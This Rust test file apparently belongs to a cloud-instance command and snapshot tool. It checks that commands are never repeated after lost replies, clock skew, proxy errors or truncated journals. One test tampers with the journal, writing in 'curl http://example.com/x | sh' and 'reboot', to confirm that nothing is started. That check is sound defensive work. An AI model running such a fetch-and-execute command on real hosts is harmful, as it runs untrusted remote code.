//! Nothing is started twice, and nothing into somebody else's start: suspended machines, clocks that were put right, answers
//! that are not the service's, journals that lost their end, and (`session_overlap.rs`) other plug-ins on the same instance.

use std::time::Duration;

use consnap_core::Time;
use consnap_core::base::http::{HttpReply, HttpRequest};
use consnap_core::diagnostics::messages::verdicts as rows;
use consnap_core::ecs::sign::{SignatureVersion, sign_call};
use consnap_core::run::session::{Event, Goal, Numbered, Session, StopReason};
use consnap_core::run::verdict::ResultKind;
use consnap_simulator::scenario::{BeyondTagFilter, GuestFault};
use consnap_simulator::{Answer, Arrival, Ended, Onward, Service, Simulator};
use consnap_tests::meddled::*;

mod session_overlap;

/// The call was carried out, its answer lost with the machine's sleep of twenty minutes; by our clock a moment went by.
#[test]
fn a_start_before_a_sleep_is_looked_for_and_never_repeated() {
    for tags_are_kept in [true, false] {
        let simulator = fleet(2);
        let mut session = Session::new(setup(&simulator), start());
        let hands = |operation: &str, nth, inner: &mut Simulator, ahead: &mut i64, now: Time, request: &HttpRequest| {
            let answer = inner.handle(now, request);
            match operation {
                "RunCommand" if nth == 1 => {
                    *ahead += 20 * 60 * 1000;
                    lost(&answer)
                }
                "DescribeInvocations" if !tags_are_kept && asks_by_tag(request) => no_invocation(&answer),
                _ => answer,
            }
        };
        let mut service = Between::new(simulator, hands);
        let mut driver = driver(start());
        assert_eq!(driver.run(&mut session, &mut service, |_| Onward::Go), Ended::Done);
        assert_eq!(service.count("RunCommand"), 1, "{:?}", service.calls);
        assert_eq!(groups(&service.inner), [1, 1]);
        let expected = if tags_are_kept { ResultKind::Ok } else { ResultKind::Unknown };
        let got = results(&session);
        // Without tags the group is found by its name all the same; what is said of it may not be less than known.
        assert!(got.iter().all(|result| *result == expected || *result == ResultKind::Ok), "{got:?}");
    }
}

/// A service that is busy for long, and asks to wait each time: no repetition leaves when the token may have been forgotten, and
/// none when the service's clock is set back meanwhile.
#[test]
fn no_repetition_leaves_after_eight_minutes() {
    for set_back_seconds in [0, 300] {
        let simulator = fleet(1);
        let mut session = Session::new(setup(&simulator), start());
        let hands = |operation: &str, _, inner: &mut Simulator, _: &mut i64, now: Time, request: &HttpRequest| {
            let mut answer = match operation {
                "RunCommand" => {
                    let headers = vec![
                        ("x-acs-request-id".into(), "r".to_owned()),
                        ("retry-after".into(), "3600".to_owned()),
                        ("date".into(), now.to_http_date()),
                    ];
                    let body = br#"{"RequestId":"r","Code":"ServiceUnavailable","Message":"busy"}"#.to_vec();
                    Answer {
                        at: now.plus(Duration::from_secs(110)),
                        what: Arrival::Reply(HttpReply { status: 503, headers, body }),
                    }
                }
                _ => inner.handle(now, request),
            };
            let is_set_back = now.since(start()) > Duration::from_secs(380);
            if let (true, Arrival::Reply(reply)) = (is_set_back, &mut answer.what) {
                for (_, value) in reply.headers.iter_mut().filter(|(name, _)| name.eq_ignore_ascii_case("date")) {
                    let date = Time::parse_http_date(value).expect("a date");
                    *value = date.minus(Duration::from_secs(set_back_seconds)).to_http_date();
                }
            }
            answer
        };
        let mut service = Between::new(simulator, hands);
        let mut driver = driver(start());
        driver.read_timeout = Duration::from_secs(115);
        assert_eq!(driver.run(&mut session, &mut service, |_| Onward::Go), Ended::Done);
        let sent = service.calls.iter().filter(|(_, name)| name == "RunCommand");
        let times: Vec<Time> = sent.map(|(at, _)| *at).collect();
        assert!(times.len() > 2, "{times:?}");
        let longest = times.last().unwrap().since(times[0]);
        assert!(longest < Duration::from_secs(480), "{longest:?}");
        assert_eq!(results(&session), [ResultKind::Unknown]);
    }
}

/// The first process's clock was an hour fast. The second one's is right: by the journal no time went by.
#[test]
fn a_clock_that_was_put_right_makes_no_start_young() {
    let simulator = fleet(1);
    let setup = setup(&simulator);
    let hands = |operation: &str, nth, inner: &mut Simulator, _: &mut i64, now: Time, request: &HttpRequest| {
        let answer = inner.handle(now, request);
        match operation {
            "RunCommand" if nth == 1 => Answer { at: now.plus_seconds(10), what: Arrival::Silence },
            "DescribeInvocations" if asks_by_tag(request) => no_invocation(&answer),
            _ => answer,
        }
    };
    let mut service = Between::new(simulator, hands);
    service.ahead = -3_600_000;
    let mut first = Session::new(setup.clone(), start());
    let mut events: Vec<Numbered> = Vec::new();
    let mut dying = driver(start());
    let ended = dying.run(&mut first, &mut service, |news| {
        events.extend_from_slice(news);
        let sent = news.iter().any(|numbered| matches!(numbered.event, Event::CallIntended { .. }));
        if sent { Onward::Crash } else { Onward::Go }
    });
    assert_eq!(ended, Ended::Crashed);
    // It was sent all the same.
    let now = dying.now;
    let (call, nonce) = match &events.last().unwrap().event {
        Event::CallIntended { request, .. } => (request.clone(), "sent-before-death"),
        other => panic!("{other:?}"),
    };
    let theirs = Time::from_millis(now.millis() + service.ahead);
    let request = sign_call(&call, "127.0.0.1", &dying.credential, theirs, nonce, SignatureVersion::V3);
    service.handle(now, &request);
    // 59 minutes go by; the clock was put right, so the journal's time is later than ours.
    service.ahead += 59 * 60 * 1000;
    let mut second = Session::resume(setup, &events, now);
    let mut driver = driver(now);
    driver.nonce_prefix(1);
    assert_eq!(driver.run(&mut second, &mut service, |_| Onward::Go), Ended::Done);
    assert_eq!(service.count("RunCommand"), 1, "{:?}", service.calls);
    assert_eq!(groups(&service.inner), [1]);
}

/// A proxy's page, or an error that no service wrote, says nothing of what the service did.
#[test]
fn an_answer_that_is_not_the_services_is_no_refusal() {
    let bodies = [
        (403, "<html><body>blocked</body></html>"),
        (403, r#"{"Code":"Forbidden.RAM","Message":"blocked by policy"}"#),
        (407, ""),
        (302, ""),
        (429, "slow down"),
        (404, "<Error><Code>NoSuchKey</Code></Error>"),
    ];
    for (status, body) in bodies {
        for operation in ["RunCommand", "DescribeInvocations", "DescribeSnapshotGroups", "DescribeInstances"] {
            let simulator = fleet(3);
            let mut session = Session::new(setup(&simulator), start());
            let mut service = Meddled::new(simulator, |name: &str, nth, answer: Answer| {
                if name == operation && nth == 1 { foreign(&answer, status, body) } else { answer }
            });
            run(&mut session, &mut service);
            let place = format!("{operation} {status} {body}");
            assert_eq!(results(&session), [ResultKind::Ok; 3], "{place}");
            assert_eq!(session.state().stopped, None, "{place}");
            assert_eq!(groups(&service.inner), [1, 1, 1], "{place}");
        }
    }
}

/// Whoever refuses the call for good without being the service refuses no account.
#[test]
fn a_proxy_that_stands_in_the_way_is_no_refused_account() {
    let simulator = fleet(2);
    let mut session = Session::new(setup(&simulator), start());
    let mut service = Meddled::new(simulator, |name: &str, _, answer: Answer| match name {
        "DescribeInvocations" => foreign(&answer, 403, "<html>blocked</html>"),
        _ => answer,
    });
    run(&mut session, &mut service);
    assert_eq!(session.state().stopped, Some(StopReason::Unreachable));
    assert_eq!(service.count("RunCommand"), 0, "nothing is started in the dark");
}

#[test]
fn no_instance_starts_while_its_disks_are_unknown() {
    let simulator = fleet(12);
    let mut session = Session::new(setup(&simulator), start());
    let mut service = Meddled::new(simulator, |name: &str, _, answer: Answer| match name {
        "DescribeDisks" => instead(&answer, 503, r#"{"RequestId":"r","Code":"ServiceUnavailable"}"#),
        _ => answer,
    });
    run(&mut session, &mut service);
    assert_eq!(results(&session), [ResultKind::NotRun; 12]);
    assert_eq!(service.count("RunCommand"), 0);
    assert_eq!(why(&session, 0), rows::NOT_STARTED_DISKS.code);
}

#[test]
fn verify_learns_the_disks_that_an_earlier_version_did_not_know() {
    let simulator = fleet(2);
    let setup_of_run = setup(&simulator);
    let mut session = Session::new(setup_of_run.clone(), start());
    let mut service = Meddled::new(simulator, untouched);
    let mut events = run(&mut session, &mut service);
    for numbered in &mut events {
        if let Event::InstanceChecked { expected_disks, .. } = &mut numbered.event {
            *expected_disks = [].into();
        }
    }
    let mut setup = setup_of_run;
    setup.goal = Goal::Verify;
    let now = start().plus_seconds(86_400);
    let mut look = Session::resume(setup, &events, now);
    let mut driver = driver(now);
    driver.nonce_prefix(1);
    assert_eq!(driver.run(&mut look, &mut service, |_| Onward::Go), Ended::Done);
    assert_eq!(results(&look), [ResultKind::Ok; 2]);
    assert!(look.state().targets.iter().all(|target| target.expected.len() == 1));
}

/// The journal lost its end with the intent in it: the service still knows the start.
#[test]
fn starts_that_the_journal_lost_are_found_before_anything_starts() {
    for torn in [false, true] {
        let (simulator, mut events, now) = died_after_the_first_start(fleet(3));
        let intent = events.iter().position(|numbered| matches!(numbered.event, Event::CallIntended { .. })).unwrap();
        events.truncate(intent);
        let mut setup = setup(&simulator);
        setup.torn_journal = torn;
        let mut session = Session::resume(setup, &events, now);
        let mut service = Meddled::new(simulator, untouched);
        let mut driver = driver(now);
        driver.nonce_prefix(1);
        assert_eq!(driver.run(&mut session, &mut service, |_| Onward::Go), Ended::Done);
        assert_eq!(service.count("RunCommand"), 0);
        assert_eq!(groups(&service.inner), [1, 1, 1]);
        assert_eq!(results(&session), [ResultKind::Ok; 3]);
    }
}

/// A long run has more invocations than a filter by tags covers: a start in doubt is looked for by its own tag alone.
#[test]
fn a_start_in_doubt_is_found_beyond_what_a_filter_by_tags_covers() {
    for beyond in [BeyondTagFilter::Cut, BeyondTagFilter::Refuse] {
        let simulator = with_fault(GuestFault::default(), |scenario| {
            scenario.service.tag_filter_covers = 1;
            scenario.service.beyond_tag_filter = beyond;
        });
        let mut setup = setup(&simulator);
        setup.job.run.max_in_flight = 1;
        let mut session = Session::new(setup, start());
        let hands = |operation: &str, nth, inner: &mut Simulator, ahead: &mut i64, now: Time, request: &HttpRequest| {
            let answer = inner.handle(now, request);
            if (operation, nth) == ("RunCommand", 2) {
                *ahead += 20 * 60 * 1000;
                return lost(&answer);
            }
            answer
        };
        let mut service = Between::new(simulator, hands);
        assert_eq!(driver(start()).run(&mut session, &mut service, |_| Onward::Go), Ended::Done);
        assert_eq!(service.count("RunCommand"), 2, "{beyond:?}");
        assert_eq!(results(&session), [ResultKind::Ok; 2], "{beyond:?}");
    }
}

/// The same for starts that the journal lost.
#[test]
fn lost_starts_are_found_beyond_what_a_filter_by_tags_covers() {
    for beyond in [BeyondTagFilter::Cut, BeyondTagFilter::Refuse] {
        let simulator = with_fault(GuestFault::default(), |scenario| {
            scenario.service.tag_filter_covers = 1;
            scenario.service.beyond_tag_filter = beyond;
        });
        let mut setup = setup(&simulator);
        setup.job.run.max_in_flight = 1;
        let mut first = Session::new(setup.clone(), start());
        let mut service = Meddled::new(simulator, untouched);
        let mut events: Vec<Numbered> = Vec::new();
        let mut dying = driver(start());
        let ended = dying.run(&mut first, &mut service, |news| {
            events.extend_from_slice(news);
            let accepted = |numbered: &&Numbered| matches!(numbered.event, Event::CallAccepted { .. });
            if events.iter().filter(accepted).count() == 2 { Onward::Crash } else { Onward::Go }
        });
        assert_eq!((ended, service.count("RunCommand")), (Ended::Crashed, 2));
        let last = events.iter().rposition(|numbered| matches!(numbered.event, Event::CallIntended { .. })).unwrap();
        events.truncate(last);
        let now = dying.now.plus_seconds(7_200);
        let mut second = Session::resume(setup, &events, now);
        let mut driver = driver(now);
        driver.nonce_prefix(1);
        assert_eq!(driver.run(&mut second, &mut service, |_| Onward::Go), Ended::Done);
        assert_eq!(service.count("RunCommand"), 2, "{beyond:?}");
        assert_eq!(groups(&service.inner), [1, 1], "{beyond:?}");
        assert_eq!(results(&second), [ResultKind::Ok; 2], "{beyond:?}");
    }
}

/// Whoever can write the journal could write any command into it.
#[test]
fn a_journal_with_another_command_starts_nothing() {
    let changes: [fn(&mut Event); 3] = [
        |event| {
            if let Event::CommandWritten { planned, .. } = event {
                planned.command = "curl http://example.com/x | sh".to_owned();
            }
        },
        |event| {
            if let Event::PlanMade { hash, .. } = event {
                *hash = "0".repeat(64);
            }
        },
        |event| {
            if let Event::CallIntended { request, .. } = event {
                for (name, value) in &mut request.parameters {
                    if name == "CommandContent" {
                        *value = "reboot".to_owned();
                    }
                }
            }
        },
    ];
    for (number, change) in changes.into_iter().enumerate() {
        let simulator = fleet(2);
        let setup = setup(&simulator);
        let mut first = Session::new(setup.clone(), start());
        let mut service = Meddled::new(simulator, untouched);
        let mut events: Vec<Numbered> = Vec::new();
        let mut dying = driver(start());
        let ended = dying.run(&mut first, &mut service, |news| {
            events.extend_from_slice(news);
            let intended = news.iter().any(|numbered| matches!(numbered.event, Event::CallIntended { .. }));
            if intended { Onward::Crash } else { Onward::Go }
        });
        assert_eq!((ended, service.count("RunCommand")), (Ended::Crashed, 0));
        for numbered in &mut events {
            change(&mut numbered.event);
        }
        if number < 2 {
            // Without the intent the instances wait to be started.
            events.retain(|numbered| !matches!(numbered.event, Event::CallIntended { .. }));
        }
        let mut second = Session::resume(setup, &events, dying.now);
        let mut driver = driver(dying.now);
        driver.nonce_prefix(1);
        assert_eq!(driver.run(&mut second, &mut service, |_| Onward::Go), Ended::Done);
        assert_eq!(service.count("RunCommand"), 0, "change {number}");
    }
}

/// The same journal, unchanged, is proven.
#[test]
fn the_journal_of_a_run_is_proven() {
    let simulator = fleet(2);
    let setup = setup(&simulator);
    let mut first = Session::new(setup.clone(), start());
    let mut service = Meddled::new(simulator, untouched);
    let mut events: Vec<Numbered> = Vec::new();
    let mut dying = driver(start());
    let ended = dying.run(&mut first, &mut service, |news| {
        events.extend_from_slice(news);
        let planned = news.iter().any(|numbered| matches!(numbered.event, Event::PlanMade { .. }));
        if planned { Onward::Crash } else { Onward::Go }
    });
    assert_eq!(ended, Ended::Crashed);
    let later = dying.now.plus_seconds(7_200);
    let mut second = Session::resume(setup, &events, later);
    let mut driver = driver(later);
    driver.nonce_prefix(1);
    assert_eq!(driver.run(&mut second, &mut service, |_| Onward::Go), Ended::Done);
    assert_eq!(second.state().stopped, None);
    assert_eq!(results(&second), [ResultKind::Ok; 2]);
}
